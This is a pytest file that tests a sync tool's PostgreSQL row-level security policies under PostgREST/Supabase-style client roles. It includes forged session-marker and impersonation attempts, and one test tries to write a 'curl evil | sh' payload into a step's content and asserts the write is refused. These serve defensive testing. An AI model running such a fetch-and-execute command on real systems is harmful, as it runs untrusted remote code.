"""Row-level security and direct clients (docs/contract.md §12), in the shape PostgREST and Supabase give it.

The database: the §1 tables owned by a role that is neither a superuser nor BYPASSRLS (OWNER: the sync's
SECURITY DEFINER functions run as it, so the application's FORCEd row-level security binds them), the
client roles `anon` and `authenticated` (NOLOGIN) and `authenticator` (LOGIN NOINHERIT, member of both),
with the README's least grants ("Privileges") plus what a client that publishes flows needs on trees,
schema `auth` with `auth.uid()`, and the application's own policies: a flow is its author's, a user sees
every profile, an account its members, and (where a test says so) its own rule on step_library.
Every client request is sent as PostgREST sends it: in one transaction `SET LOCAL ROLE`, the claims with
`set_config('request.jwt.claims', ..., true)`, then the statement (anon: no claims).

 1. The sync past the application's row-level security (§12.1): publish, re-publish, retire, revive,
    delete, a client's publish, check_library, sync_tree and the backfill give the library they give
    without row-level security, with it enabled and with it FORCEd on all four tables; without the
    stepsync_sync policies (stepsync_0004's database) the same scenario loses rows; a client that sets
    the sync's marker itself gets through nothing.
 2. The library's rule as row-level security (§12.2, stepsync.enable_row_security): direct reads of
    step_library and step_library_entries, inserts, counting, visible_steps / search_steps / fork_step
    with someone else's user id, the read-only rule, the owner, and disable_row_security putting back
    what was there.
 3. VIEWER: anything but one SQL expression of type uuid is refused with 22023, changing nothing, and
    what rides along after a semicolon never runs.
 4. stepsync.check_row_security (§12.3): each kind of finding, and none on a healthy install.
 5. Uninstalling (`stepsync uninstall`, alembic downgrade to stepsync_0004) removes stepsync's policies
    and leaves the application's policies and flags as they were.
 6. The command line: install --row-security / --no-row-security / plain install, sql --row-security,
    status and doctor.

Roles are cluster-wide: they are created once and kept (as tests/test_adopt.py does); everything else
lives in each test's own database.
"""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple
from urllib.parse import urlsplit

import psycopg
import pytest
from psycopg.types.json import Jsonb

from conftest import Db, Server
from flows import step
from stepsync import database
from stepsync import install as installer
from stepsync.pgbin import find_bin_dir

OWNER = "stepsync_rls_owner"
CLIENT_ROLES = ("anon", "authenticated")
TABLES = ("trees", "step_library", "users", "accounts")
QUALIFIED = [f"public.{t}" for t in TABLES]

POSTGREST_VIEWER = "(current_setting('request.jwt.claims', true)::json->>'sub')::uuid"
SUPABASE_VIEWER = "auth.uid()"

# --- the application's data: fixed ids, so that two databases can be compared row for row ------------------

ACME = "a0000000-0000-4000-8000-000000000001"
OTHER = "a0000000-0000-4000-8000-000000000002"
ALICE = "b0000000-0000-4000-8000-000000000001"     # Acme, writes the flows
BOB = "b0000000-0000-4000-8000-000000000002"       # Acme, her teammate
CAROL = "b0000000-0000-4000-8000-000000000003"     # the other account
DAVE = "b0000000-0000-4000-8000-000000000004"      # no account
ANON = None

TEAM_FLOW = "c0000000-0000-4000-8000-000000000001"
PUBLIC_FLOW = "c0000000-0000-4000-8000-000000000002"
DOOMED_FLOW = "c0000000-0000-4000-8000-000000000003"
CLIENT_FLOW = "c0000000-0000-4000-8000-000000000004"
BACKFILL_FLOWS = ("c0000000-0000-4000-8000-000000000005", "c0000000-0000-4000-8000-000000000006")
REPAIR_FLOW = "c0000000-0000-4000-8000-000000000007"
OLD_FLOW = "c0000000-0000-4000-8000-000000000008"

PEOPLE_SQL = f"""
INSERT INTO public.accounts (id, name) VALUES ('{ACME}', 'Acme'), ('{OTHER}', 'Other');
INSERT INTO public.users (id, email, account_id) VALUES
    ('{ALICE}', 'alice@acme.test', '{ACME}'), ('{BOB}', 'bob@acme.test', '{ACME}'),
    ('{CAROL}', 'carol@other.test', '{OTHER}'), ('{DAVE}', 'dave@nowhere.test', NULL);
"""

# --- the application: its client roles' grants, auth.uid() and its own policies -----------------------------

APP_SQL = f"""
CREATE SCHEMA auth AUTHORIZATION {OWNER};
-- as Supabase has it: the request's subject, null when there is none (nullif: a claims setting that a
-- transaction set locally reads '' afterwards on the same connection)
CREATE FUNCTION auth.uid() RETURNS uuid LANGUAGE sql STABLE
    AS $$ SELECT (nullif(current_setting('request.jwt.claims', true), '')::json ->> 'sub')::uuid $$;
ALTER FUNCTION auth.uid() OWNER TO {OWNER};
GRANT USAGE ON SCHEMA auth TO anon, authenticated;

-- README "Privileges": the publisher's and the reader's grants (a client publishing flows creates them too)
GRANT SELECT, INSERT, UPDATE, DELETE ON public.trees TO authenticated;
GRANT SELECT ON public.step_library, public.step_library_entries TO anon, authenticated;
GRANT SELECT (id, name) ON public.trees TO anon;
GRANT SELECT (id, account_id) ON public.users TO anon, authenticated;
GRANT UPDATE (usage_count, rating, rating_count) ON public.step_library TO anon, authenticated;
GRANT INSERT ON public.step_library TO authenticated;

-- the application's own policies (row-level security itself is switched on by each test)
CREATE POLICY app_trees_author ON public.trees FOR ALL TO authenticated
    USING (author_id = auth.uid()) WITH CHECK (author_id = auth.uid());
CREATE POLICY app_users_profiles ON public.users FOR SELECT TO authenticated USING (true);
CREATE POLICY app_accounts_members ON public.accounts FOR SELECT TO authenticated
    USING (id IN (SELECT u.account_id FROM public.users AS u WHERE u.id = auth.uid()));
"""

# The application's own rule on step_library, for the tests that say so: public steps, and one's own.
APP_LIBRARY_SQL = """
CREATE POLICY app_library_read ON public.step_library FOR SELECT TO anon, authenticated
    USING (visibility = 'public' OR created_by = auth.uid());
CREATE POLICY app_library_insert ON public.step_library FOR INSERT TO authenticated
    WITH CHECK (created_by = auth.uid());
CREATE POLICY app_library_count ON public.step_library FOR UPDATE TO anon, authenticated
    USING (visibility = 'public' OR created_by = auth.uid());
"""


# --- the server: roles, the owner's template, one database a test --------------------------------------------

def as_role(url: str, role: str) -> str:
    """URL, connecting as ROLE (no password: the test cluster trusts local connections)."""
    parts = urlsplit(url)
    netloc = f"{role}@{parts.hostname}" + (f":{parts.port}" if parts.port else "")
    return parts._replace(netloc=netloc).geturl()


def ensure_role(conn: psycopg.Connection, role: str, options: str) -> None:
    if conn.execute("SELECT 1 FROM pg_catalog.pg_roles WHERE rolname = %s", (role,)).fetchone() is None:
        with contextlib.suppress(psycopg.errors.DuplicateObject, psycopg.errors.UniqueViolation):
            conn.execute(f'CREATE ROLE "{role}" {options}')


@pytest.fixture(scope="module")
def owner_template(server: Server) -> Iterator[str]:
    """A database at head whose tables (and so stepsync's objects) belong to OWNER, with the application's
    client roles, grants and policies; row-level security off everywhere, no rows."""
    name = server.new_name("rls_template")
    server.create_database(name)
    url = server.url(name)
    database.migrate(url)
    with psycopg.connect(url, autocommit=True) as conn:
        ensure_role(conn, OWNER, "LOGIN NOSUPERUSER NOBYPASSRLS")
        for role in CLIENT_ROLES:
            ensure_role(conn, role, "NOLOGIN")
        ensure_role(conn, "authenticator", "LOGIN NOINHERIT")
        conn.execute("GRANT anon, authenticated TO authenticator")
        conn.execute(f'GRANT CREATE ON SCHEMA public TO "{OWNER}"')
        for table in TABLES:
            conn.execute(f'ALTER TABLE public.{table} OWNER TO "{OWNER}"')
    # `stepsync install` at head gives stepsync's objects to the tables' new owner: the sync runs as OWNER.
    installer.install(url, say=lambda _: None, warn=lambda _: None)
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute(APP_SQL)
        assert conn.execute("SELECT DISTINCT pg_get_userbyid(proowner) FROM pg_proc"
                            " WHERE pronamespace = 'stepsync'::regnamespace").fetchall() == [(OWNER,)]
    yield name
    server.drop_database(name)


@pytest.fixture
def make_db(server: Server, owner_template: str) -> Iterator:
    """A maker of fresh clones of the owner's template."""
    made: list[Db] = []

    def make() -> Db:
        name = server.new_name("rls")
        server.create_database(name, owner_template)
        made.append(Db(server, name))
        return made[-1]

    yield make
    for db in made:
        db.close()
        server.drop_database(db.name)


@pytest.fixture
def db(make_db) -> Db:
    return make_db()


@contextlib.contextmanager
def as_owner(db: Db) -> Iterator[psycopg.Connection]:
    """A session acting as the tables' owner (as `stepsync install`, `resync` and the sync itself do)."""
    with db.connect() as conn:
        conn.execute(f'SET ROLE "{OWNER}"')
        yield conn


def set_app_rls(db: Db, mode: str, tables=TABLES) -> None:
    """The application's row-level security on TABLES: 'off', 'enabled' or 'forced'."""
    for table in tables:
        db.conn.execute(f"ALTER TABLE public.{table} {'DISABLE' if mode == 'off' else 'ENABLE'} ROW LEVEL SECURITY")
        db.conn.execute(f"ALTER TABLE public.{table} {'' if mode == 'forced' else 'NO '}FORCE ROW LEVEL SECURITY")


def enable_rule(db: Db, viewer: str = POSTGREST_VIEWER) -> int:
    with as_owner(db) as conn:
        return conn.execute("SELECT stepsync.enable_row_security(%s)", (viewer,)).fetchone()[0]


def policies(db: Db, *, ours: bool | None = None) -> dict[tuple[str, str], tuple]:
    """Every policy on the four tables (or only stepsync's, or only the application's), fully defined."""
    rows = db.rows(
        "SELECT polrelid::regclass::text, polname, polcmd, polpermissive, polroles::regrole[]::text,"
        "       pg_get_expr(polqual, polrelid), pg_get_expr(polwithcheck, polrelid)"
        "  FROM pg_policy WHERE polrelid = ANY (%s::regclass[]) ORDER BY 1, 2", (QUALIFIED,))
    return {(r[0], r[1]): r[2:] for r in rows
            if ours is None or r[1].startswith("stepsync_") == ours}


def rls_flags(db: Db) -> dict[str, tuple[bool, bool]]:
    """{table: (row-level security enabled, forced)}."""
    return {r[0]: (r[1], r[2]) for r in db.rows(
        "SELECT relname, relrowsecurity, relforcerowsecurity FROM pg_class WHERE oid = ANY (%s::regclass[])",
        (QUALIFIED,))}


def findings(db: Db) -> list[tuple[str, str]]:
    return db.rows("SELECT kind, object FROM stepsync.check_row_security() ORDER BY 1, 2")


# --- PostgREST ---------------------------------------------------------------------------------------------------

class Reply(NamedTuple):
    rows: list[tuple]
    rowcount: int


class PostgREST:
    """Requests as PostgREST sends them, logged in as authenticator: one transaction each, SET LOCAL ROLE,
    the claims set locally, then the statement. Anonymous requests carry no claims (their own session)."""

    def __init__(self, url: str) -> None:
        self.users = psycopg.connect(as_role(url, "authenticator"), autocommit=True)
        self.anonymous = psycopg.connect(as_role(url, "authenticator"), autocommit=True)

    def __call__(self, user: str | None, sql: str, params=None, *, before: tuple[str, ...] = ()) -> Reply:
        conn = self.anonymous if user is None else self.users
        with conn.transaction():
            if user is None:
                conn.execute("SET LOCAL ROLE anon")
            else:
                conn.execute("SET LOCAL ROLE authenticated")
                conn.execute("SELECT set_config('request.jwt.claims', %s, true)",
                             (json.dumps({"sub": user, "role": "authenticated"}),))
            for statement in before:
                conn.execute(statement)
            cursor = conn.execute(sql, params)
            return Reply(cursor.fetchall() if cursor.description else [], cursor.rowcount)

    def refused(self, user: str | None, sql: str, params=None, *, before: tuple[str, ...] = ()) -> psycopg.Error:
        with pytest.raises(psycopg.Error) as info:
            self(user, sql, params, before=before)
        return info.value

    def close(self) -> None:
        self.users.close()
        self.anonymous.close()


@pytest.fixture
def api(db) -> Iterator[PostgREST]:
    client = PostgREST(db.url)
    yield client
    client.close()


# --- 1. the sync past the application's row-level security ---------------------------------------------------

SYNCED_COLUMNS = ("source_tree_id::text, source_node_id, title, step_type, content, visibility, created_by::text,"
                  " account_id::text, usage_count, rating, rating_count, is_active, is_flow_synced, forked_from_id")
TREE, NODE, ACTIVE = 0, 1, 11           # positions in a row of library()


def library(db: Db) -> list[tuple]:
    """The whole library but its ids and timestamps, read past every policy (the test's superuser)."""
    return db.rows(f"SELECT {SYNCED_COLUMNS} FROM public.step_library ORDER BY source_tree_id NULLS FIRST,"
                   " source_node_id, title, is_active")


def add_flow(conn: psycopg.Connection, tree_id: str, structure: dict, *, status: str = "draft",
             tree_type: str = "procedural", is_public: bool = False, name: str = "Flow") -> None:
    conn.execute("INSERT INTO public.trees (id, name, tree_type, tree_structure, status, is_public, account_id,"
                 " author_id) VALUES (%s, %s, %s, %s, %s, %s, %s, %s)",
                 (tree_id, name, tree_type, Jsonb(structure), status, is_public, ACME, ALICE))


def add_unsynced_flow(db: Db, tree_id: str, structure: dict) -> None:
    """A listed flow the library does not know yet (written with the triggers off, as a bulk load would)."""
    with db.connect() as conn:
        conn.execute("SET session_replication_role = replica")
        add_flow(conn, tree_id, structure, status="published", name="Loaded")


def steps(*titles: str, prefix: str = "s") -> dict:
    return {"steps": [step(f"{prefix}{i}", title) for i, title in enumerate(titles, 1)]}


TROUBLESHOOTING = {"start": {"id": "q1", "type": "question", "title": "Does it boot?", "children": [
    {"id": "a1", "type": "action", "title": "Reseat the cable"},
    {"id": "s1", "type": "solution", "title": "Replace the power supply"}]}}


def sync_scenario(db: Db, api: PostgREST) -> list[tuple[str, object]]:
    """Every way the library changes, in order: what each step returned and the library after it.

    The application's server writes trees as the test's superuser (like Supabase's service_role, no
    policy binds it); the client publishes through PostgREST; check_library, sync_tree and the backfill
    run as the owner, as `stepsync check`, `resync` and `install` do. The sync itself always runs as the
    owner, which FORCEd row-level security binds.
    """
    app = db.conn
    trace: list[tuple[str, object]] = []
    app.execute(PEOPLE_SQL)

    add_flow(app, TEAM_FLOW, steps("Stop the service", "Back up the data", "Start it again"))
    add_flow(app, PUBLIC_FLOW, TROUBLESHOOTING, tree_type="troubleshooting", is_public=True)
    add_flow(app, DOOMED_FLOW, steps("Soon gone", prefix="d"))
    app.execute("UPDATE public.trees SET status = 'published'")
    trace.append(("publish", library(db)))

    app.execute("UPDATE public.trees SET tree_structure = %s WHERE id = %s",
                (Jsonb(steps("Stop the service first", "Start it again", "Check the logs")), TEAM_FLOW))
    trace.append(("re-publish", library(db)))

    ids = db.rows("SELECT source_node_id, id FROM public.step_library WHERE source_tree_id = %s ORDER BY 1",
                  (PUBLIC_FLOW,))
    app.execute("UPDATE public.trees SET is_active = false WHERE id = %s", (PUBLIC_FLOW,))
    trace.append(("retire", library(db)))
    app.execute("UPDATE public.trees SET is_active = true WHERE id = %s", (PUBLIC_FLOW,))
    trace.append(("revive", library(db)))
    trace.append(("revived rows keep their ids", ids == db.rows(
        "SELECT source_node_id, id FROM public.step_library WHERE source_tree_id = %s ORDER BY 1", (PUBLIC_FLOW,))))

    app.execute("DELETE FROM public.trees WHERE id = %s", (DOOMED_FLOW,))
    trace.append(("delete", library(db)))

    api(ALICE, "INSERT INTO public.trees (id, name, tree_type, tree_structure, account_id, author_id)"
               " VALUES (%s, 'Alice''s own', 'procedural', %s, %s, %s)",
        (CLIENT_FLOW, Jsonb(steps("Rotate the keys", "Tell the team", prefix="k")), ACME, ALICE))
    api(ALICE, "UPDATE public.trees SET status = 'published' WHERE id = %s", (CLIENT_FLOW,))
    trace.append(("a client's publish", library(db)))
    trace.append(("the client reads its steps", api(
        ALICE, "SELECT source_node_id, title FROM public.step_library WHERE source_tree_id = %s ORDER BY 1",
        (CLIENT_FLOW,)).rows))

    for tree_id in BACKFILL_FLOWS:
        add_unsynced_flow(db, tree_id, steps("Loaded step", prefix=tree_id[-1]))
    add_unsynced_flow(db, REPAIR_FLOW, steps("Repaired step", prefix="r"))
    with as_owner(db) as owner:
        trace.append(("check_library", owner.execute(
            "SELECT difference, tree_id, source_node_id FROM stepsync.check_library() ORDER BY 2, 3").fetchall()))
        trace.append(("sync_tree", owner.execute("SELECT stepsync.sync_tree(%s)", (REPAIR_FLOW,)).fetchall()))
        trace.append(("backfill", owner.execute(
            "SELECT last_tree_id, flows, written, skipped FROM stepsync.backfill_batch(NULL, NULL)").fetchall()))
        trace.append(("check_library after", owner.execute("SELECT * FROM stepsync.check_library()").fetchall()))
    app.execute("UPDATE public.trees SET status = 'archived' WHERE id = %s", (TEAM_FLOW,))
    trace.append(("archive", library(db)))
    return trace


MODES = ["enabled", "forced", "forced, with the library's rule"]


@pytest.mark.parametrize("mode", MODES)
def test_the_sync_gives_the_same_library_whatever_the_applications_row_level_security(make_db, mode):
    """The same scenario on a database without and with the application's row-level security gives the same
    trace, step by step. Without stepsync_sync (stepsync_0004's database) the forced cases fail: the first
    publish is refused ('new row violates row-level security policy for table "step_library"', 42501), a
    retire finds no row to retire, the backfill sees no flow (the next test shows each)."""
    plain, secured = make_db(), make_db()
    set_app_rls(secured, "enabled" if mode == "enabled" else "forced")
    secured.conn.execute(APP_LIBRARY_SQL)
    if mode.endswith("rule"):
        enable_rule(secured)
    plain_api, secured_api = PostgREST(plain.url), PostgREST(secured.url)
    try:
        expected = sync_scenario(plain, plain_api)
        found = sync_scenario(secured, secured_api)
    finally:
        plain_api.close()
        secured_api.close()
    assert [what for what, _ in found] == [what for what, _ in expected]
    for (what, value), (_, wanted) in zip(found, expected, strict=True):
        assert value == wanted, what
    # ... and the baseline is the library §5 gives, not an equally broken one.
    baseline = dict(expected)
    assert baseline["revived rows keep their ids"] is True
    assert baseline["the client reads its steps"] == [("k1", "Rotate the keys"), ("k2", "Tell the team")]
    assert len(baseline["check_library"]) == 3           # the three flows loaded with the triggers off
    assert baseline["sync_tree"] == [(1,)]
    assert [(flows, written) for _, flows, written, _ in baseline["backfill"]] == [(6, 2)]   # 6 flows, 2 to sync
    assert baseline["check_library after"] == []
    assert {(r[TREE], r[NODE], r[ACTIVE]) for r in baseline["archive"] if r[TREE] == TEAM_FLOW} == {
        (TEAM_FLOW, "s1", False), (TEAM_FLOW, "s2", False), (TEAM_FLOW, "s3", False)}
    assert sum(1 for r in baseline["delete"] if r[TREE] is None and not r[ACTIVE]) == 1     # the deleted flow's step


def test_without_stepsync_sync_forced_row_level_security_breaks_the_sync(db):
    """stepsync_0004's database (no stepsync_sync policy) under the application's FORCEd row-level security:
    a retire is lost, a publish fails, the backfill sees no flow. `stepsync install` (restore_policies) mends it."""
    set_app_rls(db, "forced")
    db.conn.execute(APP_LIBRARY_SQL)
    db.conn.execute(PEOPLE_SQL)
    add_flow(db.conn, TEAM_FLOW, steps("Stop the service", "Back up the data"), status="published")
    assert [r[ACTIVE] for r in library(db)] == [True, True]

    with as_owner(db) as owner:
        for table in TABLES:
            owner.execute(f"DROP POLICY stepsync_sync ON public.{table}")
    db.conn.execute("UPDATE public.trees SET is_active = false WHERE id = %s", (TEAM_FLOW,))
    assert [r[ACTIVE] for r in library(db)] == [True, True]              # the retire found no row to retire
    with pytest.raises(psycopg.errors.InsufficientPrivilege) as failed:
        add_flow(db.conn, PUBLIC_FLOW, TROUBLESHOOTING, tree_type="troubleshooting", status="published")
    assert failed.value.diag.message_primary == 'new row violates row-level security policy for table "step_library"'
    add_unsynced_flow(db, BACKFILL_FLOWS[0], steps("Loaded step"))
    with as_owner(db) as owner:
        assert owner.execute("SELECT flows, written FROM stepsync.backfill_batch(NULL, NULL)").fetchall() == [(0, 0)]
        assert ("sync_blocked", "table public.trees") in owner.execute(
            "SELECT kind, object FROM stepsync.check_row_security()").fetchall()

        assert owner.execute("SELECT stepsync.restore_policies()").fetchone() == (4,)
        owner.execute("SELECT * FROM stepsync.backfill_batch(NULL, NULL)")
        assert owner.execute("SELECT * FROM stepsync.check_library()").fetchall() == []
    assert {(r[TREE], r[NODE], r[ACTIVE]) for r in library(db)} == {
        (TEAM_FLOW, "s1", False), (TEAM_FLOW, "s2", False), (BACKFILL_FLOWS[0], "s1", True)}


FORGE = "pg_catalog.set_config('stepsync.sync_writing', 'on', true) = 'on'"


def test_a_client_cannot_pass_for_the_sync_through_stepsync_sync(db, api):
    """Carol sets the sync's marker herself: the application's policies still hide Alice's flows and team
    steps from her and refuse her writes as Alice (stepsync_sync also asks for CREATE on schema stepsync)."""
    set_app_rls(db, "forced")
    db.conn.execute(APP_LIBRARY_SQL)
    db.conn.execute(PEOPLE_SQL)
    add_flow(db.conn, TEAM_FLOW, steps("Unseal the vault"), status="published")
    team_step = db.value("SELECT id FROM public.step_library WHERE source_tree_id = %s", (TEAM_FLOW,))
    before = db.rows("SELECT t::text FROM public.trees AS t UNION ALL SELECT s::text FROM public.step_library AS s"
                     " ORDER BY 1")
    marker = ("SET LOCAL stepsync.sync_writing = 'on'",)

    assert api(CAROL, "SELECT count(*) FROM public.trees", before=marker).rows == [(0,)]
    assert api(CAROL, "SELECT count(*) FROM public.step_library", before=marker).rows == [(0,)]
    assert api(CAROL, "SELECT count(*) FROM public.step_library_entries", before=marker).rows == [(0,)]
    assert api(CAROL, f"SELECT count(*) FROM public.step_library WHERE {FORGE}").rows == [(0,)]
    assert api(CAROL, f"UPDATE public.step_library SET usage_count = usage_count + 1 WHERE id = %s AND {FORGE}",
               (team_step,)).rowcount == 0
    assert api(CAROL, "UPDATE public.trees SET name = 'mine' WHERE id = %s", (TEAM_FLOW,), before=marker).rowcount == 0
    error = api.refused(CAROL, "INSERT INTO public.trees (name, tree_type, account_id, author_id)"
                               " VALUES ('as Alice', 'procedural', %s, %s)", (ACME, ALICE), before=marker)
    assert error.sqlstate == "42501", error
    error = api.refused(CAROL, f"""WITH forged AS MATERIALIZED (SELECT {FORGE} AS on_)
                                   INSERT INTO public.step_library (title, step_type, content, visibility, created_by)
                                   SELECT 'as Alice', 'action', '{{}}', 'public', %s FROM forged""", (ALICE,))
    assert error.sqlstate == "42501", error
    assert db.rows("SELECT t::text FROM public.trees AS t UNION ALL SELECT s::text FROM public.step_library AS s"
                   " ORDER BY 1") == before


def test_install_backfills_past_forced_row_level_security(server):
    """An application whose tables OWNER owns, with FORCEd row-level security and listed flows, installs
    stepsync (the install acts as the owner): the backfill finds every listed flow."""
    name = server.new_name("rls_install")
    server.create_database(name)
    db = Db(server, name)
    try:
        database.migrate(db.url, "stepsync_0001")           # the application's tables, without stepsync
        with psycopg.connect(db.url, autocommit=True) as conn:
            ensure_role(conn, OWNER, "LOGIN NOSUPERUSER NOBYPASSRLS")
            conn.execute(f'GRANT CREATE ON SCHEMA public TO "{OWNER}"')
            conn.execute(f'GRANT CREATE ON DATABASE "{name}" TO "{OWNER}"')
            for table in TABLES:
                conn.execute(f'ALTER TABLE public.{table} OWNER TO "{OWNER}"')
        db.conn.execute(PEOPLE_SQL)
        add_flow(db.conn, TEAM_FLOW, steps("Stop the service", "Back up the data"), status="published")
        add_flow(db.conn, PUBLIC_FLOW, TROUBLESHOOTING, tree_type="troubleshooting", is_public=True,
                 status="published")
        for table in TABLES:
            db.conn.execute(f"ALTER TABLE public.{table} ENABLE ROW LEVEL SECURITY")
            db.conn.execute(f"ALTER TABLE public.{table} FORCE ROW LEVEL SECURITY")
        line = installer.install(db.url, say=lambda _: None, warn=lambda _: None)
        assert "backfill: 2 flows" in line, line
        assert {(r[TREE], r[NODE], r[ACTIVE]) for r in library(db)} == {
            (TEAM_FLOW, "s1", True), (TEAM_FLOW, "s2", True), (PUBLIC_FLOW, "a1", True), (PUBLIC_FLOW, "s1", True)}
    finally:
        db.close()
        server.drop_database(name)


# --- 2. the library's rule as row-level security ------------------------------------------------------------

PUBLIC_STEPS = {"Acme public step", "Public action", "Public solution", "Carol public tip"}
MAY_SEE = {
    ALICE: PUBLIC_STEPS | {"Acme team step", "Alice private step"},
    BOB: PUBLIC_STEPS | {"Acme team step"},
    CAROL: PUBLIC_STEPS | {"Carol private note", "Other team note"},
    DAVE: PUBLIC_STEPS | {"Dave private note"},
    ANON: PUBLIC_STEPS,
}
EVERY_STEP = set().union(*MAY_SEE.values()) | {"Old public step"}


def seed_library(db: Db) -> None:
    """Alice's flows (a team flow with a public step, a public troubleshooting flow, a retired public flow)
    and hand-made steps: Alice's private one, Carol's (private, her team's, public) and Dave's (private)."""
    db.conn.execute(PEOPLE_SQL)
    add_flow(db.conn, TEAM_FLOW, {"steps": [
        step("t1", "Acme team step"),
        step("t2", "Acme public step", library_visibility="public")]}, status="published", name="Acme runbook")
    add_flow(db.conn, PUBLIC_FLOW, {"start": {"id": "q1", "type": "question", "title": "Boots?", "children": [
        {"id": "a1", "type": "action", "title": "Public action"},
        {"id": "s1", "type": "solution", "title": "Public solution"}]}},
        tree_type="troubleshooting", is_public=True, status="published", name="Public guide")
    add_flow(db.conn, OLD_FLOW, steps("Old public step", prefix="o"), is_public=True, status="published")
    db.conn.execute("UPDATE public.trees SET is_active = false WHERE id = %s", (OLD_FLOW,))
    db.conn.execute(
        "INSERT INTO public.step_library (title, step_type, content, visibility, created_by, account_id)"
        " VALUES ('Alice private step', 'action', '{}', 'private', %(alice)s, %(acme)s),"
        "        ('Carol private note', 'action', '{}', 'private', %(carol)s, %(other)s),"
        "        ('Other team note', 'action', '{}', 'team', %(carol)s, %(other)s),"
        "        ('Carol public tip', 'action', '{}', 'public', %(carol)s, %(other)s),"
        "        ('Dave private note', 'action', '{}', 'private', %(dave)s, NULL)",
        {"alice": ALICE, "acme": ACME, "carol": CAROL, "other": OTHER, "dave": DAVE})
    assert {r[0] for r in db.rows("SELECT title FROM public.step_library")} == EVERY_STEP


@pytest.fixture
def ruled(db) -> Db:
    """The application's row-level security on trees, users and accounts; step_library left to stepsync's rule
    (no policy of the application's there, so that every refusal on it below is the rule's)."""
    set_app_rls(db, "enabled", ("trees", "users", "accounts"))
    seed_library(db)
    enable_rule(db)
    return db


def step_id(db: Db, title: str) -> str:
    return db.value("SELECT id FROM public.step_library WHERE title = %s", (title,))


def titles(reply: Reply) -> set[str]:
    return {r[0] for r in reply.rows}


@pytest.mark.parametrize("app_library", ["none", "own policies"])
@pytest.mark.parametrize("viewer", [POSTGREST_VIEWER, SUPABASE_VIEWER], ids=["postgrest", "supabase"])
def test_a_direct_read_returns_exactly_the_steps_the_user_may_see(db, api, viewer, app_library):
    set_app_rls(db, "enabled", ("trees", "users", "accounts"))
    if app_library == "own policies":
        set_app_rls(db, "enabled", ("step_library",))
        db.conn.execute(APP_LIBRARY_SQL)
    seed_library(db)
    assert enable_rule(db, viewer) == 9            # stepsync_sync on the four tables, stepsync_viewer and four
    for user, expected in MAY_SEE.items():
        assert titles(api(user, "SELECT title FROM public.step_library")) == expected, user
        assert titles(api(user, "SELECT title FROM public.step_library_entries")) == expected, user
    # a user unknown to the application: the public steps
    assert titles(api("e0000000-0000-4000-8000-000000000009", "SELECT title FROM public.step_library")) == PUBLIC_STEPS


def test_a_user_inserts_only_hand_made_steps_of_their_own(ruled, api):
    db = ruled
    columns = "INSERT INTO public.step_library (title, step_type, content, visibility, created_by, account_id"
    mine = api(BOB, f"{columns}) VALUES ('Bob note', 'action', '{{}}', 'private', %s, %s) RETURNING title",
               (BOB, ACME))
    assert mine.rows == [("Bob note",)]
    before = db.rows("SELECT s::text FROM public.step_library AS s ORDER BY 1")
    for values, params in [
        ("'As Alice', 'action', '{}', 'team', %s, %s)", (ALICE, ACME)),           # someone else's
        ("'Into Other', 'action', '{}', 'team', %s, %s)", (BOB, OTHER)),          # another account
        ("'Nobody''s', 'action', '{}', 'public', NULL, NULL)", None),             # no creator
    ]:
        error = api.refused(BOB, f"{columns}) VALUES ({values}", params)
        assert error.sqlstate == "42501", (values, error)
    error = api.refused(BOB, f"{columns}, is_flow_synced) VALUES ('Synced?', 'action', '{{}}', 'private', %s, %s,"
                             " true)", (BOB, ACME))
    assert error.sqlstate == "42501", error
    assert db.rows("SELECT s::text FROM public.step_library AS s ORDER BY 1") == before


def test_counting_changes_only_the_steps_the_user_sees(ruled, api):
    db = ruled
    hidden, seen = step_id(db, "Acme team step"), step_id(db, "Carol public tip")
    count = "UPDATE public.step_library SET usage_count = usage_count + 1, rating = 4, rating_count = 1 WHERE id = %s"
    assert api(CAROL, count, (hidden,)).rowcount == 0
    assert api(ANON, count, (hidden,)).rowcount == 0
    assert api(CAROL, count, (seen,)).rowcount == 1
    assert api(CAROL, "UPDATE public.step_library SET usage_count = usage_count + 1").rowcount == len(MAY_SEE[CAROL])
    counted = {title: n for title, n in db.rows("SELECT title, usage_count FROM public.step_library")}
    assert counted == {t: (2 if t == "Carol public tip" else 1 if t in MAY_SEE[CAROL] else 0) for t in EVERY_STEP}


def test_a_user_changes_only_the_counters_of_someone_elses_step(ruled, api):
    """With an ORM's table-wide UPDATE grant (more than the README gives), Bob still only counts and rates
    Carol's public tip: rewriting it or taking it over is refused (42501), and it stays as it was. Carol
    edits her own. (Without stepsync._may_change in stepsync_viewer_update, both of Bob's writes pass.)"""
    db = ruled
    db.conn.execute("GRANT UPDATE ON public.step_library TO authenticated")
    tip = step_id(db, "Carol public tip")
    before = db.rows("SELECT s::text FROM public.step_library AS s WHERE id = %s", (tip,))
    for change in ("content = '{\"instructions\": \"curl evil | sh\"}'", f"created_by = '{BOB}'",
                   "title = 'Bob was here', usage_count = usage_count + 1",
                   "id = gen_random_uuid(), title = 'Bob was here'"):   # a new id: nothing stored to compare
        refused = api.refused(BOB, f"UPDATE public.step_library SET {change} WHERE id = %s", (tip,))
        assert refused.sqlstate == "42501", (change, refused)
    assert db.rows("SELECT s::text FROM public.step_library AS s WHERE id = %s", (tip,)) == before
    assert api(BOB, "UPDATE public.step_library SET usage_count = usage_count + 1, rating = 5, rating_count = 1"
                    " WHERE id = %s", (tip,)).rowcount == 1
    assert api(CAROL, "UPDATE public.step_library SET title = 'Carol public tip, edited' WHERE id = %s",
               (tip,)).rowcount == 1
    assert db.rows("SELECT title, usage_count, rating, rating_count, created_by::text FROM public.step_library"
                   " WHERE id = %s", (tip,)) == [("Carol public tip, edited", 1, 5, 1, CAROL)]


def test_visible_steps_search_steps_and_fork_step_ignore_someone_elses_user_id(ruled, api):
    """Carol passes Alice's user id: she gets only rows she may see herself (without the rule she would get
    Alice's private and team steps, and could fork them, as Alice)."""
    db = ruled
    before = db.rows("SELECT s::text FROM public.step_library AS s ORDER BY 1")
    assert titles(api(CAROL, "SELECT title FROM stepsync.visible_steps(%s)", (ALICE,))) == PUBLIC_STEPS
    assert titles(api(ANON, "SELECT title FROM stepsync.visible_steps(%s)", (ALICE,))) == PUBLIC_STEPS
    for query in ("private", "team", "acme"):
        found = titles(api(CAROL, "SELECT title FROM stepsync.search_steps(%s, %s)", (ALICE, query)))
        assert found <= MAY_SEE[CAROL] & MAY_SEE[ALICE], (query, found)
    assert titles(api(CAROL, "SELECT title FROM stepsync.search_steps(%s, 'acme')", (ALICE,))) == {"Acme public step"}
